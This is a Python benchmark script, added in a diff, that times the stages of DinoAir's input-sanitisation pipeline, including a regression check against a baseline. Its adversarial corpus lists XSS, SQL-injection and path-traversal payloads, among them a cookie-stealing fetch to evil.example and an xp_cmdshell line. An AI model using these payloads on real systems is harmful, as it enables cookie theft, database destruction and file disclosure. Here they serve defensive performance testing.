@@ -0,0 +1,408 @@
+#!/usr/bin/env python3
+"""
+Input Pipeline Stage Benchmark for DinoAir
+==========================================
+
+Measures InputPipeline.run and each of its stages (validation, enhanced
+security, pattern normalization, escaping, profanity filtering, intent
+classification) on a seeded corpus:
+
+    chat         short chat messages
+    code         code pastes (quotes, brackets, SQL keywords)
+    adversarial  XSS / SQL injection / traversal payloads mixed with chat
+    unicode      homoglyphs, fullwidth, combining marks, bidi controls, emoji
+    document     one large document (--doc-size, default 1 MB)
+
+Every call is timed individually with the garbage collector disabled, over
+several rounds interleaved across stages; a sample's latency is its fastest
+round, which filters out scheduler and cache noise. Per stage and category the summary holds p50/p99
+latency over samples (p99 only with enough samples to mean something), the
+mean over all calls, throughput in MB/s, and the round-to-round spread of the
+p50 as a noise estimate. Results can be saved as a JSON baseline and later
+runs compared against it: any stage whose p50 or p99 grows past the
+threshold plus the measured noise is reported and the script exits with
+status 1.
+
+Usage:
+    python scripts/benchmark_input_pipeline.py [options]
+
+Options:
+    --samples N            Samples per category (default: 200)
+    --repeat N             Timed rounds over the corpus (default: 5)
+    --seed SEED            Corpus RNG seed (default: 1337)
+    --doc-size BYTES       Size of the document sample (default: 1000000)
+    --stages LIST          Comma-separated stages to run (default: all)
+    --categories LIST      Comma-separated categories to run (default: all)
+    --save-baseline PATH   Write results to PATH as the new baseline
+    --baseline PATH        Compare results against the baseline at PATH
+    --threshold FRACTION   Allowed slowdown before failing (default: 0.25)
+"""
+
+import argparse
+import gc
+import json
+import platform
+import random
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from input_processing.input_sanitizer import InputPipeline, InputPipelineError  # noqa: E402
+from input_processing.stages import (  # noqa: E402
+    EnhancedInputSanitizer,
+    InputValidator,
+    IntentClassifier,
+    PatternNormalizer,
+    ProfanityFilter,
+    RateLimitConfig,
+    RateLimiter,
+    RateLimitStrategy,
+    TextEscaper,
+)
+
+CATEGORIES = ("chat", "code", "adversarial", "unicode", "document")
+
+# Latency differences below this are timer noise, never a regression
+MIN_REGRESSION_MS = 0.01
+
+# Fewer samples than this make p99 the maximum of a handful of calls
+MIN_P99_SAMPLES = 100
+
+CHAT_WORDS = (
+    "hi hello please can you help me with my project thanks what is the "
+    "weather today explain how this works why does my build fail open the "
+    "file search notes remind me tomorrow at noon summarize this paragraph"
+).split()
+CHAT_TYPOS = ["teh", "recieve", "wat", "pls", "u", "thx", "becuase"]
+CODE_SNIPPETS = [
+    "def add(a, b):\n    return a + b\n",
+    "for (let i = 0; i < items.length; i++) { console.log(items[i]); }",
+    'SELECT id, name FROM users WHERE name = "bob" ORDER BY id;',
+    "if x < 10 and y > 3:\n    print(f'{x} {y}')\n",
+    "const el = document.getElementById('app'); el.innerHTML = '<b>ok</b>';",
+    "git commit -m 'fix: handle empty input' && git push origin main",
+    "class Node:\n    def __init__(self, value):\n        self.value = value\n",
+    "$ ls -la ../logs | grep error > out.txt",
+]
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(document.cookie)>",
+    "javascript:alert('xss')",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "' OR '1'='1' --",
+    "1; DROP TABLE users; --",
+    "admin' UNION SELECT password FROM users --",
+    "../../../../etc/passwd",
+    "..%2F..%2F..%2Fwindows%2Fwin.ini",
+    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
+    "\"; exec xp_cmdshell('dir'); --",
+]
+UNICODE_WORDS = [
+    "café",
+    "naïve",
+    "Привет",
+    "пароль",
+    "αβγδ",
+    "日本語のテキスト",
+    "ｆｕｌｌｗｉｄｔｈ",
+    "ﬁle",
+    "pаypal",  # Cyrillic 'а'
+    "á̂̃",
+    "\u202eevil\u202c",
+    "zero\u200bwidth",
+    "😀👍🏽",
+    "مرحبا",
+]
+
+
+def _sentence(rnd: random.Random, words: int) -> str:
+    out = []
+    for _ in range(words):
+        word = rnd.choice(CHAT_WORDS) if rnd.random() > 0.08 else rnd.choice(CHAT_TYPOS)
+        out.append(word)
+    return " ".join(out) + rnd.choice(["", ".", "?", "!"])
+
+
+def generate_corpus(samples: int, doc_size: int, seed: int) -> dict[str, list[str]]:
+    """Build the deterministic benchmark corpus, one sample list per category."""
+    rnd = random.Random(seed)
+    corpus: dict[str, list[str]] = {
+        "chat": [_sentence(rnd, rnd.randint(3, 30)) for _ in range(samples)],
+        "code": [
+            _sentence(rnd, rnd.randint(2, 8))
+            + ":\n"
+            + "".join(rnd.choice(CODE_SNIPPETS) + "\n" for _ in range(rnd.randint(1, 6)))
+            for _ in range(samples)
+        ],
+        "adversarial": [
+            " ".join(
+                rnd.choice(ATTACKS) if rnd.random() < 0.4 else _sentence(rnd, rnd.randint(1, 6))
+                for _ in range(rnd.randint(1, 5))
+            )
+            for _ in range(samples)
+        ],
+        "unicode": [
+            " ".join(
+                rnd.choice(UNICODE_WORDS) if rnd.random() < 0.5 else rnd.choice(CHAT_WORDS)
+                for _ in range(rnd.randint(3, 30))
+            )
+            for _ in range(samples)
+        ],
+    }
+
+    parts: list[str] = []
+    length = 0
+    while length < doc_size:
+        roll = rnd.random()
+        if roll < 0.1:
+            part = rnd.choice(CODE_SNIPPETS)
+        elif roll < 0.15:
+            part = " ".join(rnd.choice(UNICODE_WORDS) for _ in range(5))
+        else:
+            part = _sentence(rnd, rnd.randint(5, 25))
+        parts.append(part)
+        length += len(part) + 1
+    corpus["document"] = ["\n".join(parts)[:doc_size]]
+    return corpus
+
+
+def build_stages() -> dict[str, Callable[[str], Any]]:
+    """Stage callables in pipeline order, plus the whole pipeline."""
+    sanitizer = EnhancedInputSanitizer()
+
+    def enhanced_security(text: str) -> str:
+        try:
+            return sanitizer.sanitize_input(
+                text, context="general", allow_unicode=True, strict_mode=False
+            )
+        finally:
+            # Attack logs grow with every detection; keep runs independent
+            sanitizer.reset_security_monitoring()
+
+    pipeline = InputPipeline(lambda _message: None)
+    # Measure processing, not throttling: effectively unlimited rate and no
+    # classification cache (repeated passes would only hit the cache)
+    pipeline.rate_limiter = RateLimiter(
+        RateLimitConfig(
+            max_requests=10**9,
+            burst_size=10**9,
+            strategy=RateLimitStrategy.GCRA,
+            action_limits={"default": 10**9},
+        )
+    )
+    pipeline.intent_classifier = IntentClassifier(cache_size=0)
+
+    def run_pipeline(text: str) -> Any:
+        result = pipeline.run(text)
+        pipeline.context.clear()
+        return result
+
+    return {
+        "validation": InputValidator().validate,
+        "enhanced_security": enhanced_security,
+        "pattern_normalizer": PatternNormalizer().normalize,
+        "escaper": TextEscaper("default").escape,
+        "profanity": ProfanityFilter().filter,
+        "intent": IntentClassifier(cache_size=0).classify,
+        "pipeline": run_pipeline,
+    }
+
+
+def percentile(sorted_values: list[float], fraction: float) -> float:
+    """Nearest-rank percentile of an ascending list."""
+    index = min(len(sorted_values) - 1, max(0, round(fraction * len(sorted_values)) - 1))
+    return sorted_values[index]
+
+
+def _warm_up(func: Callable[[str], Any], samples: list[str]) -> None:
+    """One untimed call so lazy compilation and imports are not timed."""
+    try:
+        func(samples[0])
+    except (InputPipelineError, ValueError):
+        pass
+
+
+def time_pass(func: Callable[[str], Any], samples: list[str]) -> tuple[list[float], int]:
+    """Time func once per sample with the garbage collector off; (latencies, errors)."""
+    latencies: list[float] = []
+    errors = 0
+    gc.collect()
+    gc_was_enabled = gc.isenabled()
+    gc.disable()
+    try:
+        for text in samples:
+            start = time.perf_counter()
+            try:
+                func(text)
+            except (InputPipelineError, ValueError):
+                # Rejections are part of the workload (adversarial inputs)
+                errors += 1
+            latencies.append(time.perf_counter() - start)
+    finally:
+        if gc_was_enabled:
+            gc.enable()
+    return latencies, errors
+
+
+def summarize(rounds: list[list[float]], samples: list[str], errors: int) -> dict[str, Any]:
+    """Latency statistics for one stage and category from its timed rounds."""
+    repeat = len(rounds)
+    # Each sample's fastest round: slower rounds only add noise
+    best = sorted(min(per_sample) for per_sample in zip(*rounds, strict=True))
+    round_p50s = [percentile(sorted(latencies), 0.5) for latencies in rounds]
+    total_s = sum(sum(latencies) for latencies in rounds)
+    megabytes = repeat * sum(len(text.encode("utf-8")) for text in samples) / 1_000_000
+    return {
+        "calls": repeat * len(samples),
+        "errors": errors,
+        "p50_ms": round(percentile(best, 0.5) * 1000, 4),
+        "p99_ms": (
+            round(percentile(best, 0.99) * 1000, 4) if len(best) >= MIN_P99_SAMPLES else None
+        ),
+        "mean_ms": round(total_s / (repeat * len(samples)) * 1000, 4),
+        "mb_per_s": round(megabytes / total_s, 3) if total_s else None,
+        # Relative spread of the per-round p50s
+        "noise": round(max(round_p50s) / min(round_p50s) - 1, 3) if min(round_p50s) else 0.0,
+    }
+
+
+def run(
+    samples: int,
+    repeat: int,
+    seed: int,
+    doc_size: int,
+    stages: list[str] | None = None,
+    categories: list[str] | None = None,
+) -> dict[str, Any]:
+    """Run the benchmark and return the summary."""
+    corpus = generate_corpus(samples, doc_size, seed)
+    available = build_stages()
+    cells = [
+        (stage, category)
+        for stage in stages or list(available)
+        for category in categories or CATEGORIES
+    ]
+    for stage, category in cells:
+        _warm_up(available[stage], corpus[category])
+
+    # Rounds are interleaved across stages, so a slow spell on the machine
+    # lands in one round of many stages rather than in every round of one
+    rounds: dict[tuple[str, str], list[list[float]]] = {cell: [] for cell in cells}
+    errors: dict[tuple[str, str], int] = dict.fromkeys(cells, 0)
+    for _ in range(repeat):
+        for stage, category in cells:
+            latencies, failed = time_pass(available[stage], corpus[category])
+            rounds[stage, category].append(latencies)
+            errors[stage, category] += failed
+
+    results: dict[str, dict[str, Any]] = {}
+    for stage, category in cells:
+        results.setdefault(stage, {})[category] = summarize(
+            rounds[stage, category], corpus[category], errors[stage, category]
+        )
+
+    return {
+        "meta": {
+            "python": platform.python_version(),
+            "machine": platform.machine(),
+            "samples": samples,
+            "repeat": repeat,
+            "seed": seed,
+            "doc_size": doc_size,
+        },
+        "results": results,
+    }
+
+
+def compare(
+    summary: dict[str, Any], baseline: dict[str, Any], threshold: float
+) -> list[dict[str, Any]]:
+    """
+    Stage/category/metric entries slower than baseline by more than threshold.
+
+    The allowed slowdown is widened by the larger round-to-round noise of the
+    two runs, so an unchanged tree does not fail on a noisy machine.
+    """
+    regressions = []
+    for stage, categories in summary["results"].items():
+        for category, current in categories.items():
+            base = baseline.get("results", {}).get(stage, {}).get(category)
+            if not base:
+                continue
+            allowed = threshold + max(base.get("noise", 0.0), current.get("noise", 0.0))
+            for metric in ("p50_ms", "p99_ms"):
+                old, new = base.get(metric), current.get(metric)
+                if old is None or new is None:
+                    continue
+                if new > old * (1 + allowed) and new - old > MIN_REGRESSION_MS:
+                    regressions.append(
+                        {
+                            "stage": stage,
+                            "category": category,
+                            "metric": metric,
+                            "baseline": old,
+                            "current": new,
+                            "change": round(new / old - 1, 3) if old else None,
+                            "allowed": round(allowed, 3),
+                        }
+                    )
+    return regressions
+
+
+def _parse_list(value: str | None, allowed: tuple[str, ...] | list[str], name: str) -> list[str]:
+    if not value:
+        return list(allowed)
+    items = [item.strip() for item in value.split(",") if item.strip()]
+    unknown = [item for item in items if item not in allowed]
+    if unknown:
+        raise SystemExit(f"Unknown {name}: {', '.join(unknown)} (choose from {', '.join(allowed)})")
+    return items
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description="Benchmark input pipeline stages")
+    parser.add_argument("--samples", type=int, default=200, help="Samples per category")
+    parser.add_argument("--repeat", type=int, default=5, help="Timed rounds over the corpus")
+    parser.add_argument("--seed", type=int, default=1337, help="Corpus RNG seed")
+    parser.add_argument("--doc-size", type=int, default=1_000_000, help="Document sample bytes")
+    parser.add_argument("--stages", help="Comma-separated stages (default: all)")
+    parser.add_argument("--categories", help="Comma-separated categories (default: all)")
+    parser.add_argument("--save-baseline", type=Path, help="Write results as baseline JSON")
+    parser.add_argument("--baseline", type=Path, help="Compare against baseline JSON")
+    parser.add_argument(
+        "--threshold", type=float, default=0.25, help="Allowed slowdown fraction"
+    )
+    args = parser.parse_args()
+
+    stage_names = list(build_stages())
+    summary = run(
+        max(1, args.samples),
+        max(1, args.repeat),
+        args.seed,
+        max(1, args.doc_size),
+        _parse_list(args.stages, stage_names, "stages"),
+        _parse_list(args.categories, CATEGORIES, "categories"),
+    )
+
+    regressions: list[dict[str, Any]] = []
+    if args.baseline:
+        baseline = json.loads(args.baseline.read_text(encoding="utf-8"))
+        regressions = compare(summary, baseline, args.threshold)
+        summary["regressions"] = regressions
+    if args.save_baseline:
+        args.save_baseline.write_text(json.dumps(summary, indent=2) + "\n", encoding="utf-8")
+
+    print(json.dumps(summary, indent=2))
+    if regressions:
+        print(f"{len(regressions)} regression(s) past {args.threshold:.0%}", file=sys.stderr)
+        return 1
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())